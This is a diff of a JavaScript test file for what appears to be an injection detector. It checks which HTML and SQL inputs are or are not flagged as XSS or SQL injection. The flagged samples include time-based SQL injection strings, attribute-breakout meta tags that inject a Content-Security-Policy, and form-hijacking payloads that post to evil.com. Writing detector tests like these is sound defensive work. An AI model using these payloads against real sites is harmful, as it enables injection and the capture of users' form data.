@@ -1269,17 +1269,23 @@ t.test('review of the nineteenth round: arithmetic, SQL written as SQL, a backti
   for (const p of ['1`=`1` AND ELT(1337=1337,SLEEP(5)) AND `1`=`1', '`=`1` AND (SELECT 1337 FROM (SELECT(SLEEP(5)))YYYY) AND `1`=`1']) t.ok(q(p).includes('sqli'), p)
 })
 
-t.test('review of the nineteenth round: embedded forms, a page\'s own policy, typed objects, a page\'s script loading, developers\' loopback hosts', async (t) => {
+t.test('review of the nineteenth round: embedded forms, a page\'s own policy (read again since the fifty-fourth round), typed objects, a page\'s script loading, developers\' loopback hosts', async (t) => {
   for (const p of [
     '<p>Subscribe:</p>\n<form action="https://example.us1.list-manage.com/subscribe/post?u=abc&amp;id=def" method="post"><input type="email" name="EMAIL"><button type="submit">Subscribe</button></form>',
     '<form action="https://www.paypal.com/cgi-bin/webscr" method="post"><input type="hidden" name="cmd" value="_s-xclick"></form>',
-    '<!DOCTYPE html>\n<html>\n<head>\n<meta charset="utf-8">\n<meta http-equiv="Content-Security-Policy" content="default-src \'self\'">\n<title>Home</title>\n</head>\n<body><p>Hi</p></body>\n</html>',
     '<object data="https://example.com/files/report.pdf" type="application/pdf" width="100%" height="600"></object>',
     '$.getScript("https://cdn.example.com/plugin.js", function() { init(); });',
     "$.getScript('/js/lazy.js').done(function(){ start() })",
     '<p>Preview:</p><img src="http://app.lvh.me:3000/uploads/logo.png">',
     '<a href="http://10.0.0.5.nip.io:8080/">staging</a>',
   ]) t.notOk(json({ body: p }).includes('xss'), p)
+  // (fifty-fourth round's review, in Chromium) a whole page's own policy is the same string as one injected into a page's head, where it
+  // applies: read again, closed by </head> or not
+  for (const p of [
+    '<!DOCTYPE html>\n<html>\n<head>\n<meta charset="utf-8">\n<meta http-equiv="Content-Security-Policy" content="default-src \'self\'">\n<title>Home</title>\n</head>\n<body><p>Hi</p></body>\n</html>',
+    '"><meta http-equiv="Content-Security-Policy" content="script-src \'none\'"></head>', '</title><meta http-equiv="Content-Security-Policy" content="script-src \'self\'"></head>',
+    '<!doctype html x="><meta http-equiv="Content-Security-Policy" content="script-src \'none\'">', '<!doctype html><title>x</title><meta http-equiv="Content-Security-Policy" content="script-src \'none\'">',
+  ]) t.ok(json({ body: p }).includes('xss'), p)
   for (const p of [
     '<form action="http://evil.com"><input type="submit"></form>', '<form action=http://google.com><input type="submit">Click Me</input>',
     '<noscript><form action=http://evil.com><input type=submit style="position:absolute"><textarea name=contents></noscript>',
